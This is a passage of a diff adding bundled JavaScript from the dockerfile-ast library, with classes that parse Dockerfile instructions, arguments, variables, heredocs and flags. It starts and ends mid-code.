+       *         not one defined
+       */
+      getSubstitutionParameter() {
+        return this.substitutionParameter;
+      }
+      getSubstitutionRange() {
+        return this.substitutionRange;
+      }
+      /**
+       * Returns whether this variable has been defined or not.
+       *
+       * @return true if this variable has been defined, false otherwise
+       */
+      isDefined() {
+        return this.defined;
+      }
+      isBuildVariable() {
+        return this.buildVariable === true;
+      }
+      isEnvironmentVariable() {
+        return this.buildVariable === false;
+      }
+    };
+    exports.Variable = Variable;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instruction.js
+var require_instruction = __commonJS({
+  "node_modules/dockerfile-ast/lib/instruction.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Instruction = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var util_1 = require_util9();
+    var line_1 = require_line();
+    var argument_1 = require_argument();
+    var heredoc_1 = require_heredoc();
+    var variable_1 = require_variable();
+    var main_1 = require_main();
+    var Instruction = class extends line_1.Line {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3);
+        this.dockerfile = dockerfile;
+        this.escapeChar = escapeChar;
+        this.instruction = instruction;
+        this.instructionRange = instructionRange;
+      }
+      toString() {
+        let value = this.getKeyword();
+        for (let arg of this.getRawArguments()) {
+          value += " ";
+          value += arg.getValue();
+        }
+        return value;
+      }
+      getRangeContent(range3) {
+        if (range3 === null) {
+          return null;
+        }
+        return this.document.getText().substring(this.document.offsetAt(range3.start), this.document.offsetAt(range3.end));
+      }
+      getInstructionRange() {
+        return this.instructionRange;
+      }
+      getInstruction() {
+        return this.instruction;
+      }
+      getKeyword() {
+        return this.getInstruction().toUpperCase();
+      }
+      getArgumentsRange() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+          return null;
+        }
+        return vscode_languageserver_types_1.Range.create(args[0].getRange().start, args[args.length - 1].getRange().end);
+      }
+      getArgumentsRanges() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+          return [];
+        }
+        if (args[0].getRange().start.line === args[args.length - 1].getRange().end.line) {
+          return [vscode_languageserver_types_1.Range.create(args[0].getRange().start, args[args.length - 1].getRange().end)];
+        }
+        let ranges = [];
+        let end = -1;
+        let startPosition = args[0].getRange().start;
+        let range3 = this.getInstructionRange();
+        let extra = this.document.offsetAt(startPosition) - this.document.offsetAt(range3.start);
+        let content = this.getTextContent();
+        let fullArgs = content.substring(extra, this.document.offsetAt(args[args.length - 1].getRange().end) - this.document.offsetAt(range3.start));
+        let offset = this.document.offsetAt(range3.start) + extra;
+        let start = false;
+        let comment = false;
+        for (let i = 0; i < fullArgs.length; i++) {
+          let char = fullArgs.charAt(i);
+          if (char === this.escapeChar) {
+            let next = fullArgs.charAt(i + 1);
+            if (next === " " || next === "	") {
+              whitespaceCheck: for (let j = i + 2; j < fullArgs.length; j++) {
+                switch (fullArgs.charAt(j)) {
+                  case " ":
+                  case "	":
+                    continue;
+                  case "\r":
+                    j++;
+                  case "\n":
+                    if (startPosition !== null) {
+                      ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+                    }
+                    startPosition = null;
+                    start = true;
+                    comment = false;
+                    i = j;
+                    break whitespaceCheck;
+                  default:
+                    break whitespaceCheck;
+                }
+              }
+            } else if (next === "\r") {
+              if (startPosition !== null) {
+                ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+                startPosition = null;
+              }
+              start = true;
+              comment = false;
+              i += 2;
+            } else if (next === "\n") {
+              if (startPosition !== null) {
+                ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+              }
+              startPosition = null;
+              start = true;
+              comment = false;
+              i++;
+            } else {
+              i++;
+            }
+          } else if (util_1.Util.isNewline(char)) {
+            if (comment) {
+              startPosition = null;
+              start = true;
+              comment = false;
+            }
+          } else {
+            if (!comment) {
+              if (startPosition === null) {
+                if (char === "#") {
+                  comment = true;
+                  continue;
+                }
+                let position = this.document.positionAt(offset + i);
+                if (position.character !== 0) {
+                  startPosition = vscode_languageserver_types_1.Position.create(position.line, 0);
+                }
+              }
+              end = i;
+            }
+          }
+        }
+        if (startPosition === null) {
+          ranges.push(vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + end), this.document.positionAt(offset + end + 1)));
+        } else {
+          ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+        }
+        return ranges;
+      }
+      getRawArgumentsContent() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+          return null;
+        }
+        return this.getRangeContent(vscode_languageserver_types_1.Range.create(args[0].getRange().start, args[args.length - 1].getRange().end));
+      }
+      getArgumentsContent() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+          return null;
+        }
+        let content = "";
+        let ranges = this.getArgumentsRanges();
+        let documentText = this.document.getText();
+        for (let range3 of ranges) {
+          content += documentText.substring(this.document.offsetAt(range3.start), this.document.offsetAt(range3.end));
+        }
+        return content;
+      }
+      getArguments() {
+        return this.getRawArguments();
+      }
+      getRawArguments() {
+        let args = [];
+        let range3 = this.getInstructionRange();
+        let extra = this.document.offsetAt(range3.end) - this.document.offsetAt(range3.start);
+        let content = this.getTextContent();
+        let fullArgs = content.substring(extra);
+        let offset = this.document.offsetAt(range3.start) + extra;
+        let start = false;
+        let comment = false;
+        let found = -1;
+        let escapedWhitespaceDetected = false;
+        let escaping = false;
+        let escapeMarker = -1;
+        let escapedArg = "";
+        for (let i = 0; i < fullArgs.length; i++) {
+          let char = fullArgs.charAt(i);
+          if (util_1.Util.isWhitespace(char)) {
+            if (escaping) {
+              escapedWhitespaceDetected = true;
+              if (util_1.Util.isNewline(char)) {
+                escapedWhitespaceDetected = false;
+                if (comment) {
+                  comment = false;
+                  start = true;
+                }
+              }
+              continue;
+            } else if (found !== -1) {
+              if (escapeMarker === -1) {
+                args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + i))));
+              } else {
+                args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+              }
+              escapeMarker = -1;
+              escapedArg = "";
+              found = -1;
+            }
+          } else if (char === this.escapeChar) {
+            let next = fullArgs.charAt(i + 1);
+            if (next === " " || next === "	") {
+              whitespaceCheck: for (let j = i + 2; j < fullArgs.length; j++) {
+                let newlineCheck = fullArgs.charAt(j);
+                switch (newlineCheck) {
+                  case " ":
+                  case "	":
+                    continue;
+                  case "\r":
+                    j++;
+                  case "\n":
+                    comment = false;
+                    escaping = true;
+                    start = true;
+                    if (found !== -1) {
+                      escapeMarker = i;
+                    }
+                    i = j;
+                    break whitespaceCheck;
+                  default:
+                    escapeMarker = i;
+                    if (found === -1) {
+                      i = j - 1;
+                    }
+                    break whitespaceCheck;
+                }
+              }
+            } else if (next === "\r") {
+              comment = false;
+              escaping = true;
+              start = true;
+              if (found !== -1 && escapeMarker === -1) {
+                escapeMarker = i;
+              }
+              i += 2;
+            } else if (next === "\n") {
+              comment = false;
+              escaping = true;
+              start = true;
+              if (found !== -1 && escapeMarker === -1) {
+                escapeMarker = i;
+              }
+              i++;
+            } else {
+              if (escapedWhitespaceDetected && escapeMarker !== -1) {
+                args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+                escapedArg = "";
+                found = -1;
+              }
+              escapeMarker = -1;
+              escapedWhitespaceDetected = false;
+              escaping = false;
+              if (next === "$") {
+                escapedArg = escapedArg + char + next;
+              } else if (next === "") {
+                break;
+              } else {
+                escapedArg = escapedArg + next;
+              }
+              if (found === -1) {
+                found = i;
+              }
+              i++;
+            }
+          } else if (!comment) {
+            if (start && char === "#") {
+              comment = true;
+            } else {
+              if (escapedWhitespaceDetected && escapeMarker !== -1) {
+                args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+                escapedArg = "";
+                found = -1;
+              }
+              escapedWhitespaceDetected = false;
+              escaping = false;
+              escapeMarker = -1;
+              escapedArg = escapedArg + char;
+              if (found === -1) {
+                found = i;
+              }
+            }
+            start = false;
+          }
+        }
+        if (found !== -1) {
+          if (escapeMarker === -1) {
+            args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + fullArgs.length))));
+          } else {
+            args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+          }
+        }
+        return args;
+      }
+      getExpandedArguments() {
+        let args = this.getArguments();
+        for (let i = 0; i < args.length; i++) {
+          const argRange = args[i].getRange();
+          let offset = this.document.offsetAt(argRange.start);
+          const variables = this.parseVariables(offset, args[i].getValue());
+          const swaps = [];
+          let requiresExpansion = false;
+          for (let variable of variables) {
+            const value = this.dockerfile.resolveVariable(variable.getName(), variable.getNameRange().start.line);
+            swaps.push(value);
+            requiresExpansion = requiresExpansion || value !== void 0;
+          }
+          if (requiresExpansion) {
+            let expanded = "";
+            for (let j = 0; j < swaps.length; j++) {
+              const variableRange = variables[j].getRange();
+              const start = this.document.offsetAt(variableRange.start);
+              const end = this.document.offsetAt(variableRange.end);
+              if (swaps[j]) {
+                expanded += this.document.getText().substring(offset, start);
+                expanded += swaps[j];
+                offset = end;
+              } else {
+                expanded += this.document.getText().substring(offset, end);
+                offset = end;
+              }
+            }
+            const argEnd = this.document.offsetAt(argRange.end);
+            if (argEnd !== offset) {
+              expanded += this.document.getText().substring(offset, argEnd);
+            }
+            args[i] = new argument_1.Argument(expanded, argRange);
+          }
+        }
+        return args;
+      }
+      getVariables() {
+        const variables = [];
+        const args = this.getRawArguments();
+        for (const arg of args) {
+          let range3 = arg.getRange();
+          let rawValue = this.document.getText().substring(this.document.offsetAt(range3.start), this.document.offsetAt(range3.end));
+          const parsedVariables = this.parseVariables(this.document.offsetAt(arg.getRange().start), rawValue);
+          for (const parsedVariable of parsedVariables) {
+            variables.push(parsedVariable);
+          }
+        }
+        return variables;
+      }
+      parseVariables(offset, arg) {
+        let variables = [];
+        variableLoop: for (let i = 0; i < arg.length; i++) {
+          switch (arg.charAt(i)) {
+            case this.escapeChar:
+              if (arg.charAt(i + 1) === "$") {
+                i++;
+              }
+              break;
+            case "$":
+              if (arg.charAt(i + 1) === "{") {
+                let escapedString = "${";
+                let escapedName = "";
+                let nameEnd = -1;
+                let escapedSubstitutionParameter = "";
+                let substitutionStart = -1;
+                let substitutionEnd = -1;
+                let modifierRead = -1;
+                nameLoop: for (let j = i + 2; j < arg.length; j++) {
+                  let char = arg.charAt(j);
+                  switch (char) {
+                    case this.escapeChar:
+                      for (let k = j + 1; k < arg.length; k++) {
+                        switch (arg.charAt(k)) {
+                          case " ":
+                          case "	":
+                          case "\r":
+                            continue;
+                          case "\n":
+                            j = k;
+                            continue nameLoop;
+                        }
+                      }
+                      break;
+                    case "}":
+                      escapedString += "}";
+                      let modifier = null;
+                      let modifierRange = null;
+                      let substitutionParameter = modifierRead !== -1 ? escapedSubstitutionParameter : null;
+                      let substitutionRange = null;
+                      if (nameEnd === -1) {
+                        nameEnd = j;
+                      } else if (nameEnd + 1 === j) {
+                        modifier = "";
+                        modifierRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + nameEnd + 1), this.document.positionAt(offset + nameEnd + 1));
+                      } else {
+                        if (substitutionStart === -1) {
+                          substitutionStart = modifierRead + 1;
+                          substitutionEnd = modifierRead + 1;
+                        } else {
+                          substitutionEnd = substitutionEnd + 1;
+                        }
+                        modifier = arg.substring(modifierRead, modifierRead + 1);
+                        modifierRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + modifierRead), this.document.positionAt(offset + modifierRead + 1));
+                        substitutionRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + substitutionStart), this.document.positionAt(offset + substitutionEnd));
+                      }
+                      let start = this.document.positionAt(offset + i);
+                      variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 2), this.document.positionAt(offset + nameEnd)), vscode_languageserver_types_1.Range.create(start, this.document.positionAt(offset + j + 1)), modifier, modifierRange, substitutionParameter, substitutionRange, this.dockerfile.resolveVariable(escapedName, start.line) !== void 0, this.isBuildVariable(escapedName, start.line), escapedString));
+                      i = j;
+                      continue variableLoop;
+                    case ":":
+                      if (nameEnd === -1) {
+                        nameEnd = j;
+                      } else if (modifierRead !== -1) {
+                        if (substitutionStart === -1) {
+                          substitutionStart = j;
+                          substitutionEnd = j;
+                        } else {
+                          substitutionEnd = j;
+                        }
+                        escapedSubstitutionParameter += ":";
+                      } else {
+                        modifierRead = j;
+                      }
+                      escapedString += ":";
+                      break;
+                    case "\n":
+                    case "\r":
+                    case " ":
+                    case "	":
+                      break;
+                    default:
+                      if (nameEnd === -1) {
+                        escapedName += char;
+                      } else if (modifierRead !== -1) {
+                        if (substitutionStart === -1) {
+                          substitutionStart = j;
+                          substitutionEnd = j;
+                        } else {
+                          substitutionEnd = j;
+                        }
+                        escapedSubstitutionParameter += char;
+                      } else {
+                        modifierRead = j;
+                      }
+                      escapedString += char;
+                      break;
+                  }
+                }
+                break variableLoop;
+              } else if (util_1.Util.isWhitespace(arg.charAt(i + 1)) || i === arg.length - 1) {
+                continue;
+              } else {
+                let escapedName = "";
+                nameLoop: for (let j = i + 1; j < arg.length; j++) {
+                  let char = arg.charAt(j);
+                  switch (char) {
+                    case "\r":
+                    case "\n":
+                    case " ":
+                    case "	":
+                      continue;
+                    case "$":
+                    case "'":
+                    case '"':
+                      let varStart = this.document.positionAt(offset + i);
+                      variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + j)), vscode_languageserver_types_1.Range.create(varStart, this.document.positionAt(offset + j)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, varStart.line) !== void 0, this.isBuildVariable(escapedName, varStart.line), "$" + escapedName));
+                      i = j - 1;
+                      continue variableLoop;
+                    case this.escapeChar:
+                      for (let k = j + 1; k < arg.length; k++) {
+                        switch (arg.charAt(k)) {
+                          case " ":
+                          case "	":
+                          case "\r":
+                            continue;
+                          case "\n":
+                            j = k;
+                            continue nameLoop;
+                        }
+                      }
+                      let start2 = this.document.positionAt(offset + i);
+                      variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + j)), vscode_languageserver_types_1.Range.create(start2, this.document.positionAt(offset + j)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, start2.line) !== void 0, this.isBuildVariable(escapedName, start2.line), "$" + escapedName));
+                      break variableLoop;
+                  }
+                  if (char.match(/^[a-z0-9_]+$/i) === null) {
+                    let varStart = this.document.positionAt(offset + i);
+                    variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + j)), vscode_languageserver_types_1.Range.create(varStart, this.document.positionAt(offset + j)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, varStart.line) !== void 0, this.isBuildVariable(escapedName, varStart.line), "$" + escapedName));
+                    i = j - 1;
+                    continue variableLoop;
+                  }
+                  escapedName += char;
+                }
+                let start = this.document.positionAt(offset + i);
+                variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + arg.length)), vscode_languageserver_types_1.Range.create(start, this.document.positionAt(offset + arg.length)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, start.line) !== void 0, this.isBuildVariable(escapedName, start.line), "$" + escapedName));
+              }
+              break variableLoop;
+          }
+        }
+        return variables;
+      }
+      isBuildVariable(variable, line) {
+        if (this.getKeyword() === main_1.Keyword.FROM) {
+          for (const initialArg of this.dockerfile.getInitialARGs()) {
+            const arg = initialArg;
+            const property = arg.getProperty();
+            if (property && variable === property.getName()) {
+              return true;
+            }
+          }
+          return void 0;
+        }
+        let image = this.dockerfile.getContainingImage(vscode_languageserver_types_1.Position.create(line, 0));
+        let envs = image.getENVs();
+        for (let i = envs.length - 1; i >= 0; i--) {
+          if (envs[i].isBefore(line)) {
+            for (let property of envs[i].getProperties()) {
+              if (property.getName() === variable) {
+                return false;
+              }
+            }
+          }
+        }
+        let args = image.getARGs();
+        for (let i = args.length - 1; i >= 0; i--) {
+          if (args[i].isBefore(line)) {
+            let property = args[i].getProperty();
+            if (property && property.getName() === variable) {
+              return true;
+            }
+          }
+        }
+        return void 0;
+      }
+      createSingleLineHeredocs(args) {
+        const heredocs = [];
+        for (const arg of args) {
+          const value = arg.getValue();
+          if (value.startsWith("<<") && util_1.Util.parseHeredocName(value) !== null) {
+            const startRange = arg.getRange();
+            const nameRange = this.getNameRange(startRange);
+            const name = this.getName(nameRange);
+            heredocs.push(new heredoc_1.Heredoc(startRange, name, nameRange, null, null));
+          }
+        }
+        return heredocs;
+      }
+      getName(nameRange) {
+        const content = this.document.getText(nameRange);
+        let escaping = false;
+        let name = "";
+        nameLoop: for (let i = 0; i < content.length; i++) {
+          const ch = content.charAt(i);
+          switch (ch) {
+            case this.escapeChar:
+              escaping = true;
+              for (let j = i + 1; j < content.length; j++) {
+                switch (content.charAt(j)) {
+                  case " ":
+                  case "	":
+                    break;
+                  case "\r":
+                    i = j + 1;
+                    continue nameLoop;
+                  case "\n":
+                    i = j;
+                    continue nameLoop;
+                  default:
+                    name += content.charAt(j);
+                    i = j;
+                    continue nameLoop;
+                }
+              }
+              break;
+            case "#":
+              if (escaping) {
+                for (let j = i + 1; j < content.length; j++) {
+                  switch (content.charAt(j)) {
+                    case "\n":
+                      i = j;
+                      continue nameLoop;
+                  }
+                }
+              }
+            case " ":
+            case "	":
+            case "\r":
+            case "\n":
+              if (escaping) {
+                break;
+              }
+            default:
+              name += ch;
+              break;
+          }
+        }
+        return name;
+      }
+      getNameRange(startRange) {
+        const content = this.document.getText(startRange);
+        let endFound = false;
+        let searchHyphen = false;
+        let start = -1;
+        let end = -1;
+        let escaping = false;
+        let quote2 = null;
+        contentLoop: for (let i = 0; i < content.length; i++) {
+          const ch = content.charAt(i);
+          switch (ch) {
+            case '"':
+            case "'":
+              if (quote2 === ch) {
+                break contentLoop;
+              }
+              quote2 = ch;
+              continue;
+            case this.escapeChar:
+              for (let j = i + 1; j < content.length; j++) {
+                switch (content.charAt(j)) {
+                  case "\n":
+                    escaping = true;
+                    j = i;
+                    continue contentLoop;
+                }
+              }
+              break;
+            case " ":
+            case "	":
+            case "\r":
+            case "\n":
+              break;
+            case "<":
+              if (endFound) {
+                searchHyphen = true;
+              } else {
+                endFound = true;
+              }
+              break;
+            case "-":
+              if (searchHyphen) {
+                searchHyphen = false;
+                break;
+              }
+            case "#":
+              if (escaping) {
+                for (let j = i + 1; j < content.length; j++) {
+                  switch (content.charAt(j)) {
+                    case "\n":
+                      i = j;
+                      continue contentLoop;
+                  }
+                }
+              }
+            default:
+              if (start === -1) {
+                start = i;
+              }
+              if (quote2 !== null) {
+                end = i + 1;
+                break;
+              }
+              break contentLoop;
+          }
+        }
+        if (start === -1) {
+          return vscode_languageserver_types_1.Range.create(startRange.end, startRange.end);
+        }
+        const nameStart = this.document.positionAt(this.document.offsetAt(startRange.start) + start);
+        const nameEnd = quote2 !== null ? this.document.positionAt(this.document.offsetAt(startRange.start) + end) : startRange.end;
+        return vscode_languageserver_types_1.Range.create(nameStart, nameEnd);
+      }
+      getHeredocs() {
+        const args = this.getArguments();
+        if (args.length === 0) {
+          return [];
+        }
+        const heredocs = [];
+        const range3 = this.getRange();
+        if (range3.start.line === range3.end.line) {
+          return this.createSingleLineHeredocs(args);
+        }
+        const heredocDefinitions = [];
+        let heredocsProcessed = false;
+        let escaping = false;
+        let contentStart = -1;
+        let contentEnd = -1;
+        let lineStart = -1;
+        let currentHeredoc = 0;
+        const startOffset = this.document.offsetAt(args[0].getRange().start);
+        const content = this.getRangeContent(vscode_languageserver_types_1.Range.create(args[0].getRange().start, this.getRange().end));
+        contentLoop: for (let i = 0; i < content.length; i++) {
+          switch (content.charAt(i)) {
+            case this.escapeChar:
+              escaping = true;
+              for (let j = i + 1; j < content.length; j++) {
+                switch (content.charAt(j)) {
+                  case " ":
+                  case "	":
+                    break;
+                  case "\r":
+                    j++;
+                  case "\n":
+                    i = j;
+                    continue contentLoop;
+                  default:
+                    i = j;
+                    continue contentLoop;
+                }
+              }
+              break;
+            case "\r":
+              break;
+            case "\n":
+              if (escaping) {
+                break;
+              }
+              if (heredocsProcessed) {
+                if (contentStart === -1) {
+                  contentStart = i;
+                }
+                contentEnd = i;
+                const arg = heredocDefinitions[currentHeredoc];
+                const startRange = arg.getRange();
+                const nameRange = this.getNameRange(startRange);
+                const name = this.getName(nameRange);
+                const delimiterRange = this.getDelimiterRange(arg, name, vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + lineStart), this.document.positionAt(startOffset + i)));
+                if (delimiterRange !== null) {
+                  const contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), this.document.positionAt(startOffset + lineStart - 1));
+                  heredocs.push(new heredoc_1.Heredoc(startRange, name, nameRange, contentRange, delimiterRange));
+                  contentStart = -1;
+                  currentHeredoc++;
+                }
+                lineStart = -1;
+              } else {
+                const offsetLimit = startOffset + i;
+                for (const arg of args) {
+                  if (this.document.offsetAt(arg.getRange().start) < offsetLimit) {
+                    if (arg.getValue().startsWith("<<")) {
+                      heredocDefinitions.push(arg);
+                    }
+                  } else {
+                    break;
+                  }
+                }
+                heredocsProcessed = true;
+                lineStart = -1;
+                continue contentLoop;
+              }
+              break;
+            case " ":
+            case "	":
+              if (escaping) {
+                break;
+              }
+            case "#":
+              if (escaping) {
+                for (let j = i + 1; j < content.length; j++) {
+                  switch (content.charAt(j)) {
+                    case "\n":
+                      i = j;
+                      continue contentLoop;
+                  }
+                }
+              }
+            default:
+              if (escaping) {
+                escaping = false;
+              }
+              if (heredocsProcessed) {
+                if (contentStart === -1) {
+                  contentStart = i;
+                }
+                if (lineStart === -1) {
+                  lineStart = i;
+                }
+              }
+              break;
+          }
+        }
+        if (heredocsProcessed) {
+          const arg = heredocDefinitions[currentHeredoc];
+          const startRange = arg.getRange();
+          const nameRange = this.getNameRange(startRange);
+          const name = this.getName(nameRange);
+          let contentRange = null;
+          const delimiterRange = this.getDelimiterRange(arg, name, vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + lineStart), range3.end));
+          if (delimiterRange === null) {
+            contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), range3.end);
+          } else if (contentEnd !== -1) {
+            contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), this.document.positionAt(startOffset + contentEnd));
+          }
+          heredocs.push(new heredoc_1.Heredoc(startRange, name, nameRange, contentRange, delimiterRange));
+          currentHeredoc++;
+          for (let i = currentHeredoc; i < heredocDefinitions.length; i++) {
+            const arg2 = heredocDefinitions[currentHeredoc];
+            const startRange2 = arg2.getRange();
+            const nameRange2 = this.getNameRange(startRange2);
+            const name2 = this.getName(nameRange2);
+            heredocs.push(new heredoc_1.Heredoc(startRange2, name2, nameRange2, null, null));
+            currentHeredoc++;
+          }
+        } else {
+          return this.createSingleLineHeredocs(args);
+        }
+        return heredocs;
+      }
+      getDelimiterRange(startArg, name, candidateRange) {
+        const text = this.document.getText(candidateRange);
+        if (startArg.getValue().startsWith("<<-")) {
+          let index = 0;
+          while (text.charAt(index) === "	") {
+            index++;
+          }
+          if (text.substring(index) === name) {
+            return vscode_languageserver_types_1.Range.create(vscode_languageserver_types_1.Position.create(candidateRange.start.line, index), candidateRange.end);
+          }
+          return null;
+        }
+        return text === name ? candidateRange : null;
+      }
+    };
+    exports.Instruction = Instruction;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/flagOption.js
+var require_flagOption = __commonJS({
+  "node_modules/dockerfile-ast/lib/flagOption.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.FlagOption = void 0;
+    var FlagOption = class {
+      constructor(range3, name, nameRange, value, valueRange) {
+        this.range = range3;
+        this.name = name;
+        this.nameRange = nameRange;
+        this.value = value;
+        this.valueRange = valueRange;
+      }
+      toString() {
+        if (this.valueRange !== null) {
+          return this.name + "=" + this.value;
+        }
+        return this.name;
+      }
+      getRange() {
+        return this.range;
+      }
+      getName() {
+        return this.name;
+      }
+      getNameRange() {
+        return this.nameRange;
+      }
+      getValue() {
+        return this.value;
+      }
+      getValueRange() {
+        return this.valueRange;
+      }
+    };
+    exports.FlagOption = FlagOption;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/flag.js
+var require_flag = __commonJS({
+  "node_modules/dockerfile-ast/lib/flag.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Flag = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var flagOption_1 = require_flagOption();
+    var Flag = class {
+      constructor(document, range3, name, nameRange, value, valueRange) {
+        this.options = [];
+        this.range = range3;
+        this.name = name;
+        this.nameRange = nameRange;
+        this.value = value;
+        this.valueRange = valueRange;
+        if (this.value !== null) {
+          let offset = document.offsetAt(valueRange.start);
+          let nameStart = -1;
+          let valueStart = -1;
+          let hasOptions = false;
+          for (let i = 0; i < value.length; i++) {
+            switch (value.charAt(i)) {
+              case "=":
+                hasOptions = true;
+                if (valueStart === -1) {
+                  valueStart = i + 1;
+                  break;
+                }
+                break;
+              case ",":
+                this.options.push(this.createFlagOption(document, value, offset, nameStart, valueStart, i));
+                nameStart = -1;
+                valueStart = -1;
+                break;
+              default:
+                if (nameStart === -1) {
+                  nameStart = i;
+                }
+                break;
+            }
+          }
+          if (hasOptions && nameStart !== -1) {
+            this.options.push(this.createFlagOption(document, value, offset, nameStart, valueStart, value.length));
+          }
+        }
+      }
+      createFlagOption(document, content, documentOffset, nameStart, valueStart, valueEnd) {
+        const optionRange = vscode_languageserver_types_1.Range.create(document.positionAt(documentOffset + nameStart), document.positionAt(documentOffset + valueEnd));
+        if (valueStart === -1) {
+          return new flagOption_1.FlagOption(optionRange, content.substring(nameStart, valueEnd), optionRange, null, null);
+        }
+        return new flagOption_1.FlagOption(optionRange, content.substring(nameStart, valueStart - 1), vscode_languageserver_types_1.Range.create(document.positionAt(documentOffset + nameStart), document.positionAt(documentOffset + valueStart - 1)), content.substring(valueStart, valueEnd), vscode_languageserver_types_1.Range.create(document.positionAt(documentOffset + valueStart), document.positionAt(documentOffset + valueEnd)));
+      }
+      toString() {
+        if (this.valueRange) {
+          return "--" + this.name + "=" + this.value;
+        }
+        return "--" + this.name;
+      }
+      /**
+       * Returns the range that encompasses this entire flag. This includes the
+       * -- prefix in the beginning to the last character of the flag's value (if
+       * it has been defined).
+       *
+       * @return the entire range of this flag
+       */
+      getRange() {
+        return this.range;
+      }
+      /**
+       * Returns the name of this flag. The name does not include the -- prefix.
+       * Thus, for HEALTHCHECK's --interval flag, interval is the flag's name and
+       * not --interval.
+       *
+       * @return this flag's name
+       */
+      getName() {
+        return this.name;
+      }
+      /**
+       * Returns the range that encompasses the flag's name
+       *
+       * @return the range containing the flag's name
+       */
+      getNameRange() {
+        return this.nameRange;
+      }
+      /**
+       * Returns the value that has been set to this flag. May be null if the
+       * flag is invalid and has no value set like a --start-period. If the flag
+       * is instead a --start-period= with an equals sign then the flag's value
+       * is the empty string.
+       *
+       * @return this flag's value if it has been defined, null otherwise
+       */
+      getValue() {
+        return this.value;
+      }
+      /**
+       * Returns the range that encompasses this flag's value. If no value has
+       * been set then null will be returned.
+       *
+       * @return the range containing this flag's value, or null if the flag
+       *         has no value defined
+       */
+      getValueRange() {
+        return this.valueRange;
+      }
+      getOption(name) {
+        for (const option of this.options) {
+          if (option.getName() === name) {
+            return option;
+          }
+        }
+        return null;
+      }
+      getOptions() {
+        return this.options;
+      }
+      hasOptions() {
+        return this.options.length > 0;
+      }
+    };
+    exports.Flag = Flag;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/modifiableInstruction.js
+var require_modifiableInstruction = __commonJS({
+  "node_modules/dockerfile-ast/lib/modifiableInstruction.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.ModifiableInstruction = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var flag_1 = require_flag();
+    var instruction_1 = require_instruction();
+    var ModifiableInstruction = class extends instruction_1.Instruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      getFlags() {
+        if (!this.flags) {
+          this.flags = [];
+          for (let arg of this.getArguments()) {
+            let value = arg.getValue();
+            if (this.stopSearchingForFlags(value)) {
+              return this.flags;
+            } else if (value.indexOf("--") === 0) {
+              let range3 = arg.getRange();
+              let rawValue = this.document.getText().substring(this.document.offsetAt(range3.start), this.document.offsetAt(range3.end));
+              let nameIndex = value.indexOf("=");
+              let index = rawValue.indexOf("=");
+              let firstMatch = false;
+              let secondMatch = false;
+              let startIndex = -1;
+              nameSearchLoop: for (let i = 0; i < rawValue.length; i++) {
+                switch (rawValue.charAt(i)) {
+                  case "\\":
+                  case " ":
+                  case "	":
+                  case "\r":
+                  case "\n":
+                    break;
+                  case "-":
+                    if (secondMatch) {
+                      startIndex = i;
+                      break nameSearchLoop;
+                    } else if (firstMatch) {
